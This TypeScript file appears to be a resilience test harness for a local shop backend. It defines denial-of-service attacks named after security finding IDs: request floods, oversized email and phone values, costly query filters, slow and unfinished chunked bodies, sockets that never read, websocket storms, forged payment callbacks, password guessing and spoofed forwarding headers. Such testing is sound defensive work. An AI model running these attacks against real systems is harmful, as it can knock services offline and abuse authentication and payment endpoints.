// Floods by one client, each named after the number of its security finding.
import { randomBytes, randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { WebSocket } from 'ws';
import { type Call, clientFrom } from './client.ts';
import { socketAttacks } from './socket-attacks.ts';
import type { Attack, Target } from './target.ts';

const attackerAddress = '127.66.0.1';

/** Each connection sends its next request as soon as the last one is answered. */
function flood(name: string, connections: number, callOf: (target: Target, index: number) => Call): Attack {
  return {
    name,
    async run(target, signal) {
      const client = clientFrom(target.port, attackerAddress);
      const statuses: Record<string, number> = {};
      let index = 0;
      const loop = async () => {
        while (!signal.aborted) {
          const { status } = await client.send(callOf(target, index++));
          statuses[status] = (statuses[status] ?? 0) + 1;
          // Without a running shop the request fails at once, and the loop would block the abort signal.
          if (status === 0) await new Promise((done) => setTimeout(done, 50));
        }
      };
      signal.addEventListener('abort', () => client.close(), { once: true });
      await Promise.all(Array.from({ length: connections }, loop));
      return statuses;
    },
  };
}

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const json = ({ publishableKey }: Target) => ({ apikey: publishableKey, 'content-type': 'application/json' });
const ownOrigin = ({ port }: Target) => ({ origin: `http://localhost:${port}` });

/** A multipart body with this number of parts. */
function multipart(parts: number): { headers: Record<string, string>; body: string } {
  const part = (index: number) => `--x\r\ncontent-disposition: form-data; name="f${index}"\r\n\r\nv\r\n`;
  return {
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
    body: `${Array.from({ length: parts }, (_, index) => part(index)).join('')}--x--\r\n`,
  };
}

const manyFields = Array.from({ length: 100_000 }, (_, index) => `f${index}=v`).join('&');
const manyParts = multipart(15_000);
const manyInquiries = JSON.stringify(
  Array.from({ length: 1000 }, () => ({ name: '', email: 'x', message: 'x' })),
);
const longDots = '.'.repeat(1_000_000);

export const attacks: readonly Attack[] = [
  ...socketAttacks,
  flood('A9: cached pages', 300, () => ({ path: '/shop', headers: { 'accept-encoding': 'br' } })),
  flood('C1: newsletter with an address of a million dots', 4, (target) => ({
    method: 'POST',
    path: '/newsletter',
    headers: { ...form, ...ownOrigin(target) },
    body: `email=a@${longDots}@`,
  })),
  flood('C1: order page with an address of a million dots', 4, (target) => ({
    method: 'POST',
    path: `/shop/${target.slugs[0]}/order`,
    headers: { ...form, ...ownOrigin(target) },
    body: `name=Amina&phone=0712345678&location=Westlands&email=a@${longDots}@`,
  })),
  flood('C1: place_order with an address of a million dots', 8, (target) => ({
    method: 'POST',
    path: '/rest/v1/rpc/place_order',
    headers: json(target),
    body: JSON.stringify({ ...orderOf(target), customer_email: `a@${longDots}@` }),
  })),
  flood('M1: place_order with a phone of a megabyte', 30, (target) => ({
    method: 'POST',
    path: '/rest/v1/rpc/place_order',
    headers: json(target),
    body: JSON.stringify({ ...orderOf(target), customer_phone: '0'.repeat(1_000_000) }),
  })),
  flood('M1: full-text filter of 480 words', 30, (target, index) => ({
    path: `/rest/v1/products?select=name&description=fts.${encodeURIComponent(
      Array.from({ length: 480 }, (_, word) => `word${index}x${word}`).join(' | '),
    )}`,
    headers: { apikey: target.publishableKey },
  })),
  flood('M1: OpenAPI root', 30, (target) => ({
    path: '/rest/v1/',
    headers: { apikey: target.publishableKey },
  })),
  flood('M1: 450 ilike in one or', 30, (target, index) => ({
    path: `/rest/v1/products?select=name&or=(${Array.from(
      { length: 450 },
      (_, member) => `description.ilike.*${index}x${member}*`,
    ).join(',')})`,
    headers: { apikey: target.publishableKey },
  })),
  flood('M1: reads with too many columns to order by', 30, (target) => ({
    path: `/rest/v1/products?select=name&order=${Array.from({ length: 400 }, () => 'name.asc').join(',')}`,
    headers: { apikey: target.publishableKey },
  })),
  flood('M1: 1,000 inquiries in one insert', 30, (target) => ({
    method: 'POST',
    path: '/rest/v1/inquiries',
    headers: json(target),
    body: manyInquiries,
  })),
  flood('M1: contact form of 100,000 fields', 30, (target) => ({
    method: 'POST',
    path: '/contact',
    headers: { ...form, ...ownOrigin(target) },
    body: manyFields,
  })),
  flood('M1: contact form of 15,000 multipart parts', 30, (target) => ({
    method: 'POST',
    path: '/contact',
    headers: { ...manyParts.headers, ...ownOrigin(target) },
    body: manyParts.body,
  })),
  flood('M1: random searches', 30, (_target, index) => ({ path: `/shop?search=x${index}y` })),
  flood('M1: random image sizes', 30, ({ imagePath }, index) => ({
    path: `/storage/v1/render/image/public/product-images/${imagePath}?width=${200 + (index % 900)}&height=${200 + (index % 700)}`,
  })),
  flood('M1: orders that are refused', 30, (target) => ({
    method: 'POST',
    path: '/rest/v1/rpc/place_order',
    headers: json(target),
    body: JSON.stringify({ ...orderOf(target), expected_total: 1 }),
  })),
  flood('M5: wrong passwords', 30, (target, index) => ({
    method: 'POST',
    path: '/auth/v1/token?grant_type=password',
    headers: json(target),
    body: JSON.stringify({ email: `someone${index}@example.com`, password: 'wrong-password' }),
  })),
  flood('M6: form posts from another site', 30, () => ({
    method: 'POST',
    path: '/contact',
    headers: { ...form, origin: 'https://attacker.example' },
    body: 'firstName=A',
  })),
  {
    name: 'C2: 40,000 messages in one broadcast to 300 sockets',
    run: (target, signal) => broadcastStorm(target, signal, 40_000, 46),
  },
  {
    name: 'C2: messages of 2.9 MB to 300 sockets that do not read',
    run: (target, signal) => broadcastStorm(target, signal, 1, 2_900_000),
  },
  { name: 'C2: joins and leaves of 300 sockets', run: joinStorm },
  { name: 'C2: 1,500 sockets of 20 networks that subscribe to stock', run: subscribeToStock },
  { name: 'L7: 2,000 connections that pipeline and do not read', run: pipelineWithoutReading },
  {
    name: 'bodies in chunks of one byte',
    run: (target, signal) => sendBodies(target, signal, 20, '/rest/v1/rpc/place_order', 98_000, 1),
  },
  {
    name: '300 unfinished bodies of 500 KB',
    run: (target, signal) => sendBodies(target, signal, 300, '/auth/v1/sso/saml/acs', 500_000, 50_000),
  },
  {
    name: 'A2: the largest answers on 200 connections of one network that do not read',
    run: (target, signal) => neverRead(target, signal, 200, 1, largestAnswer),
  },
  {
    name: 'A2: the largest answers on 400 connections of 40 networks that do not read',
    run: (target, signal) => neverRead(target, signal, 400, 40, largestAnswer),
  },
  {
    name: 'A2: answers, pages, images and ranges on 600 connections of 40 networks that do not read',
    run: (target, signal) => neverRead(target, signal, 600, 40, anyLongAnswer),
  },
  flood('A2: a column under 59 names', 30, (target) => ({
    path: `/rest/v1/products?select=${Array.from({ length: 59 }, (_, at) => `c${at}:description`).join(',')}`,
    headers: { apikey: target.publishableKey },
  })),
  flood('forged callbacks of M-PESA', 30, (target) => ({
    method: 'POST',
    path: `/functions/v1/mobile-money/notice/${randomBytes(32).toString('hex')}`,
    headers: json(target),
    body: '{}',
  })),
  flood('payments of orders that do not exist', 30, (target) => ({
    method: 'POST',
    path: '/functions/v1/mobile-money',
    headers: json(target),
    body: JSON.stringify({
      action: 'initiate',
      phoneNumber: '0712345678',
      amount: 95_100,
      trackingNumber: 'JJ-20260101-1000',
      orderId: randomUUID(),
    }),
  })),
  flood('password recoveries from 30 networks', 30, (target, index) => ({
    method: 'POST',
    path: '/auth/v1/recover',
    headers: { ...json(target), 'x-forwarded-for': `203.0.${index % 30}.${index % 250}` },
    body: JSON.stringify({ email: `someone${index}@example.com` }),
  })),
  flood('searches of ten misspelt words', 30, (target, index) => ({
    path: `/rest/v1/rpc/correct_search?search=${encodeURIComponent(
      `mngo pasion tamarnd gingr minnt baobb hibscus lemn orang vanila${index}`.slice(0, 100),
    )}`,
    headers: { apikey: target.publishableKey },
  })),
];

function orderOf({ productId }: Target) {
  return {
    idempotency_key: randomUUID(),
    product_id: productId,
    quantity: 1,
    customer_name: 'Amina Kamau',
    customer_email: 'amina@example.com',
    customer_phone: '0712345678',
    delivery_location: 'Westlands',
    expected_total: 95_100,
  };
}

/** Opens sockets on one public topic. Returns those that the shop accepted. */
async function openSockets(
  { port, publishableKey }: Target,
  count: number,
  reads: boolean,
): Promise<WebSocket[]> {
  const opened = await Promise.all(
    Array.from(
      { length: count },
      () =>
        new Promise<WebSocket | null>((resolve) => {
          const socket = new WebSocket(
            `ws://127.0.0.1:${port}/realtime/v1/websocket?apikey=${publishableKey}&vsn=1.0.0`,
            { localAddress: attackerAddress, headers: { host: `localhost:${port}` } },
          );
          socket.on('error', () => resolve(null));
          socket.on('open', () => {
            const payload = { config: { broadcast: { self: true } } };
            socket.send(
              JSON.stringify({ topic: 'realtime:room', event: 'phx_join', payload, ref: '1', join_ref: '1' }),
            );
            if (!reads) socket.once('message', () => socket.pause());
            resolve(socket);
          });
        }),
    ),
  );
  return opened.filter((socket) => socket !== null);
}

async function broadcastStorm(
  target: Target,
  signal: AbortSignal,
  messages: number,
  bytes: number,
): Promise<Record<string, number>> {
  const sockets = await openSockets(target, 300, messages > 1);
  const client = clientFrom(target.port, attackerAddress);
  const payload = { text: 'x'.repeat(Math.max(0, bytes - 46)) };
  const body = JSON.stringify({
    messages: Array.from({ length: messages }, () => ({ topic: 'room', event: 'e', payload })),
  });
  const statuses: Record<string, number> = { sockets: sockets.length };
  while (!signal.aborted) {
    const { status } = await client.send({
      method: 'POST',
      path: '/realtime/v1/api/broadcast',
      headers: json(target),
      body,
    });
    statuses[status] = (statuses[status] ?? 0) + 1;
    for (const socket of sockets.slice(0, 10)) {
      if (socket.readyState === WebSocket.OPEN) {
        const sent = { type: 'broadcast', event: 'e', payload };
        socket.send(
          JSON.stringify({
            topic: 'realtime:room',
            event: 'broadcast',
            payload: sent,
            ref: '2',
            join_ref: '1',
          }),
        );
      }
    }
    await new Promise((done) => setTimeout(done, 10));
  }
  for (const socket of sockets) socket.terminate();
  client.close();
  return statuses;
}

async function joinStorm(target: Target, signal: AbortSignal): Promise<Record<string, number>> {
  const sockets = await openSockets(target, 300, true);
  let joins = 0;
  while (!signal.aborted) {
    for (const [index, socket] of sockets.entries()) {
      if (socket.readyState !== WebSocket.OPEN) continue;
      const topic = `realtime:room-${joins % 50}-${index}`;
      const changes = [{ event: '*', schema: 'public', table: 'orders', filter: `id=eq.${randomUUID()}` }];
      socket.send(
        JSON.stringify({
          topic,
          event: 'phx_join',
          payload: { config: { postgres_changes: changes } },
          ref: '3',
          join_ref: '3',
        }),
      );
      socket.send(JSON.stringify({ topic, event: 'phx_leave', payload: {}, ref: '4', join_ref: '3' }));
      joins += 1;
    }
    await new Promise((done) => setTimeout(done, 100));
  }
  const open = sockets.filter((socket) => socket.readyState === WebSocket.OPEN).length;
  for (const socket of sockets) socket.terminate();
  return { sockets: sockets.length, 'still open': open, joins };
}

/** Each socket subscribes to table changes, and again half a second after its channel was closed or refused. */
async function subscribeToStock(
  { port, publishableKey }: Target,
  signal: AbortSignal,
): Promise<Record<string, number>> {
  const counts = { opened: 0, subscribed: 0, changes: 0, 'channels closed': 0 };
  const url = `ws://127.0.0.1:${port}/realtime/v1/websocket?apikey=${publishableKey}&vsn=1.0.0`;
  const sockets = Array.from({ length: 1500 }, (_, index) => {
    const socket = new WebSocket(url, {
      localAddress: `127.${66 + (index % 20)}.0.1`,
      headers: { host: `localhost:${port}` },
    });
    const join = () => {
      if (socket.readyState !== WebSocket.OPEN) return;
      const changes = [{ event: '*', schema: 'public', table: 'products' }];
      socket.send(
        JSON.stringify({
          topic: 'realtime:stock',
          event: 'phx_join',
          payload: { config: { postgres_changes: changes } },
          ref: '1',
          join_ref: '1',
        }),
      );
    };
    socket.on('error', () => {});
    socket.on('open', () => {
      counts.opened += 1;
      join();
    });
    socket.on('message', (data: Buffer) => {
      const { event, payload } = JSON.parse(data.toString());
      if (event === 'postgres_changes') counts.changes += 1;
      if (event === 'phx_reply' && payload.status === 'ok') counts.subscribed += 1;
      if (event === 'phx_close') counts['channels closed'] += 1;
      if (event === 'phx_close' || (event === 'phx_reply' && payload.status === 'error'))
        setTimeout(join, 500);
    });
    return socket;
  });
  await new Promise<void>((done) => signal.addEventListener('abort', () => done(), { once: true }));
  const open = sockets.filter((socket) => socket.readyState === WebSocket.OPEN).length;
  for (const socket of sockets) socket.terminate();
  return { ...counts, 'still open': open };
}

async function pipelineWithoutReading(target: Target, signal: AbortSignal): Promise<Record<string, number>> {
  const line = `GET /shop HTTP/1.1\r\nhost: localhost:${target.port}\r\n\r\n`;
  const sockets = Array.from({ length: 2000 }, () => {
    const socket = connect({ host: '127.0.0.1', port: target.port, localAddress: attackerAddress });
    socket.on('error', () => socket.destroy());
    socket.once('connect', () => {
      socket.pause();
      socket.write(line.repeat(100));
    });
    return socket;
  });
  await new Promise<void>((done) => signal.addEventListener('abort', () => done(), { once: true }));
  const open = sockets.filter((socket) => !socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return { connections: sockets.length, 'still open': open };
}

interface UnreadCall {
  path: string;
  headers?: Readonly<Record<string, string>>;
}

/** All rows that one answer may have, as JSON or CSV. */
const largestAnswer = (_target: Target, index: number): UnreadCall => ({
  path: '/rest/v1/products?select=*',
  headers: { accept: index % 2 ? 'text/csv' : 'application/json' },
});

function anyLongAnswer(target: Target, index: number): UnreadCall {
  const path = `/storage/v1/object/public/product-images/${target.imagePath}`;
  const calls: readonly UnreadCall[] = [
    largestAnswer(target, index),
    { path: `/shop?search=x${index}y` },
    { path: '/sitemap.xml' },
    { path },
    { path, headers: { range: `bytes=${index % 100}-` } },
  ];
  return calls[index % calls.length] ?? { path };
}

/** Connections that pipeline requests and read no answer, and begin again when they are closed. */
async function neverRead(
  { port, publishableKey, ...target }: Target,
  signal: AbortSignal,
  connections: number,
  networks: number,
  callOf: (target: Target, index: number) => UnreadCall,
): Promise<Record<string, number>> {
  const counts = { opened: 0, 'closed by the shop': 0 };
  let index = 0;
  const requestOf = () => {
    const { path, headers = {} } = callOf({ port, publishableKey, ...target }, index++);
    const all = { host: `localhost:${port}`, apikey: publishableKey, ...headers };
    const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
    return `GET ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`;
  };
  const openOne = (localAddress: string) =>
    new Promise<void>((done) => {
      const socket = connect({ host: '127.0.0.1', port, localAddress });
      const abort = () => socket.destroy();
      signal.addEventListener('abort', abort, { once: true });
      // A client that does not read learns of its end by writing.
      const heartbeat = setInterval(() => socket.write('\r\n'), 500);
      socket.on('error', () => {});
      socket.once('close', () => {
        clearInterval(heartbeat);
        signal.removeEventListener('abort', abort);
        if (!signal.aborted) counts['closed by the shop'] += 1;
        done();
      });
      socket.once('connect', () => {
        counts.opened += 1;
        socket.pause();
        socket.write(Array.from({ length: 8 }, requestOf).join(''));
      });
    });
  const loop = async (_: unknown, at: number) => {
    while (!signal.aborted) {
      await openOne(`127.${66 + (at % networks)}.0.1`);
      await new Promise((next) => setTimeout(next, 20));
    }
  };
  await Promise.all(Array.from({ length: connections }, loop));
  return counts;
}

/** Sockets that each send a body in chunks of a size, never its end, and begin again when they are closed. */
async function sendBodies(
  { port, publishableKey }: Target,
  signal: AbortSignal,
  sockets: number,
  path: string,
  bytes: number,
  chunkBytes: number,
): Promise<Record<string, number>> {
  const head = [
    `POST ${path} HTTP/1.1`,
    `host: localhost:${port}`,
    `apikey: ${publishableKey}`,
    'content-type: application/x-www-form-urlencoded',
    'transfer-encoding: chunked',
  ].join('\r\n');
  const chunk = `${chunkBytes.toString(16)}\r\n${'x'.repeat(chunkBytes)}\r\n`;
  const counts = { opened: 0, 'closed by the shop': 0 };
  const sendOne = () =>
    new Promise<void>((done) => {
      const socket = connect({ host: '127.0.0.1', port, localAddress: attackerAddress });
      const abort = () => socket.destroy();
      signal.addEventListener('abort', abort, { once: true });
      socket.on('error', () => {});
      socket.once('close', () => {
        signal.removeEventListener('abort', abort);
        if (!signal.aborted) counts['closed by the shop'] += 1;
        done();
      });
      socket.once('data', abort);
      socket.once('connect', () => {
        counts.opened += 1;
        socket.write(`${head}\r\n\r\n${chunk.repeat(Math.ceil(bytes / chunkBytes))}`);
      });
    });
  const loop = async () => {
    while (!signal.aborted) {
      await sendOne();
      await new Promise((done) => setTimeout(done, 20));
    }
  };
  await Promise.all(Array.from({ length: sockets }, loop));
  return counts;
}
